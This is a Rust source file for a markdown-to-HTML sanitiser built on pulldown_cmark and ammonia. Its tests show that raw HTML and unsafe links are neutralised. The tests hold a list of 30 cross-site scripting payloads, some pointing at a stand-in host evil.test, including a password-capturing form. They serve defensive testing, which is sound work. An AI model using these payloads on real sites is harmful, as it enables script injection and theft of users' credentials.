//! What programs write, made safe to show: markdown as HTML (contract 15.2). Raw HTML in it is shown as the text it is, so that
//! nobody approves what they cannot see. Knows nothing of requests.

use ammonia::{Builder, UrlRelative};
use pulldown_cmark::{Event, HeadingLevel, Options, Parser, Tag, TagEnd, html};
use std::{collections::HashSet, sync::LazyLock};

/// The second wall: whatever the first let through, only this is left.
static ALLOWED: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut allowed = Builder::empty();
    allowed
        .tags(HashSet::from([
            "p",
            "br",
            "hr",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "strong",
            "em",
            "del",
            "code",
            "pre",
            "blockquote",
            "ul",
            "ol",
            "li",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "a",
            "img",
        ]))
        .add_tag_attributes("a", ["href", "title"])
        .add_tag_attributes("img", ["src", "alt", "title"])
        .add_tag_attributes("ol", ["start"])
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_value("a", "target", "_blank")
        .set_tag_attribute_value("table", "tabindex", "0") // a wide one is scrolled, also by keyboard
        .set_tag_attribute_value("img", "referrerpolicy", "no-referrer")
        .set_tag_attribute_value("img", "loading", "lazy");
    allowed
});

/// Markdown as HTML that can do no harm. Its headings stand below that of the page, and a new line is a new line.
pub fn safe_html(markdown: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let events = Parser::new_ext(markdown, options).map(|event| match event {
        Event::Html(text) | Event::InlineHtml(text) => Event::Text(text),
        Event::Start(Tag::HtmlBlock) => Event::Start(Tag::Paragraph),
        Event::End(TagEnd::HtmlBlock) => Event::End(TagEnd::Paragraph),
        Event::SoftBreak => Event::HardBreak,
        Event::Start(Tag::Heading { level, id, classes, attrs }) => {
            Event::Start(Tag::Heading { level: below(level), id, classes, attrs })
        }
        Event::End(TagEnd::Heading(level)) => Event::End(TagEnd::Heading(below(level))),
        other => other,
    });
    let mut written = String::new();
    html::push_html(&mut written, events);
    ALLOWED.clean(&written).to_string()
}

fn below(level: HeadingLevel) -> HeadingLevel {
    match level {
        HeadingLevel::H1 => HeadingLevel::H2,
        HeadingLevel::H2 => HeadingLevel::H3,
        HeadingLevel::H3 => HeadingLevel::H4,
        HeadingLevel::H4 => HeadingLevel::H5,
        _ => HeadingLevel::H6,
    }
}

#[cfg(test)]
mod tests {
    use super::safe_html;

    /// What is left when every tag that may be there, as we write it, is taken away.
    fn tags(html: &str) -> Vec<&str> {
        html.split('<').skip(1).map(|rest| rest.split(['>', ' ']).next().unwrap_or_default()).collect()
    }

    #[test]
    fn markdown_is_rendered() {
        let html = safe_html(
            "# Ship *it*?\n\none\ntwo\n\n| a | b |\n|--:|---|\n| 1 | ~~2~~ |\n\n```rust\nlet x = \"<b>\";\n```",
        );
        assert_eq!(
            html,
            "<h2>Ship <em>it</em>?</h2>\n<p>one<br>\ntwo</p>\n<table tabindex=\"0\"><thead><tr><th>a</th><th>b</th></tr></thead><tbody>\n\
             <tr><td>1</td><td><del>2</del></td></tr>\n</tbody></table>\n<pre><code>let x = \"&lt;b&gt;\";\n</code></pre>\n"
        );
        let link = safe_html("[a](https://example.com/?a=1&b=2) <ann@example.com>");
        assert!(
            link.contains("href=\"https://example.com/?a=1&amp;b=2\"") && link.contains("target=\"_blank\""),
            "{link}"
        );
        assert!(
            link.contains("rel=\"noopener noreferrer nofollow\"") && link.contains("href=\"mailto:ann@example.com\""),
            "{link}"
        );
        let image = safe_html("![alt](https://example.com/x.png)");
        assert!(
            image.contains("referrerpolicy=\"no-referrer\"") && image.contains("src=\"https://example.com/x.png\""),
            "{image}"
        );
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        assert_eq!(
            safe_html("<b>bold</b> & <script>alert(1)</script>"),
            "<p>&lt;b&gt;bold&lt;/b&gt; &amp; &lt;script&gt;alert(1)&lt;/script&gt;</p>\n"
        );
        let block = safe_html("<div onclick=\"x()\">\n*not* markdown\n</div>\n\nafter");
        assert!(
            block.contains("&lt;div onclick=")
                && block.ends_with("<p>after</p>\n")
                && tags(&block).iter().all(|tag| ["p", "/p"].contains(tag)),
            "{block}"
        );
    }

    #[test]
    fn hostile_texts_do_no_harm() {
        const HOSTILE: [&str; 30] = [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<iframe src=//evil.test></iframe>",
            "<form action=//evil.test><input name=password></form>",
            "<style>*{display:none}</style>",
            "<p style=\"position:fixed;inset:0\">x</p>",
            "<svg onload=alert(1)><script>alert(2)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<!--><img src=x onerror=alert(1)>-->",
            "<![CDATA[<img src=x onerror=alert(1)>]]>",
            "<base href=//evil.test><meta http-equiv=refresh content=\"0;url=//evil.test\">",
            "<object data=//evil.test></object><embed src=//evil.test><link rel=stylesheet href=//evil.test>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java&#10;script:alert(1))",
            "[x](&#x6A;avascript:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](vbscript:msgbox(1))",
            "<javascript:alert(1)>",
            "![x](javascript:alert(1))",
            "![x](data:image/svg+xml;base64,PHN2Zz4=)",
            "[x](/sign-out) [y](//evil.test) [z](\\\\evil.test)",
            "[x](https://a.test \"t\\\" onmouseover=\\\"alert(1)\")",
            "![a\" onerror=\"alert(1)](https://a.test/x.png)",
            "```\"><img src=x onerror=alert(1)>\nx\n```\n\n[ref]: javascript:alert(1)\n[ref]",
        ];
        for text in HOSTILE {
            for markdown in
                [text.to_owned(), format!("- > {text}"), format!("**{text}** `{text}`"), format!("|a|\n|-|\n|{text}|")]
            {
                let html = safe_html(&markdown);
                for tag in tags(&html) {
                    let known = "p br strong em code pre blockquote ul li table thead tbody tr th td a img h2";
                    assert!(known.split(' ').any(|known| tag.trim_start_matches('/') == known), "{markdown} → {html}");
                }
                for element in
                    html.split('<').skip(1).filter_map(|rest| rest.split_once('>')).map(|(element, _)| element)
                {
                    let lower = element.to_lowercase();
                    let attributes: Vec<_> = lower
                        .split('"')
                        .step_by(2)
                        .filter_map(|part| part.trim().strip_suffix('='))
                        .filter_map(|part| part.split(' ').next_back())
                        .collect();
                    let known =
                        ["href", "title", "src", "alt", "rel", "target", "referrerpolicy", "loading", "tabindex"];
                    assert!(attributes.iter().all(|name| known.contains(name)), "{markdown} → {html}");
                    for (name, value) in attributes.iter().zip(lower.split('"').skip(1).step_by(2)) {
                        let fine = !["href", "src"].contains(name)
                            || value.starts_with("http")
                            || value.starts_with("mailto:");
                        assert!(fine, "{markdown} → {html}");
                    }
                }
            }
        }
    }
}
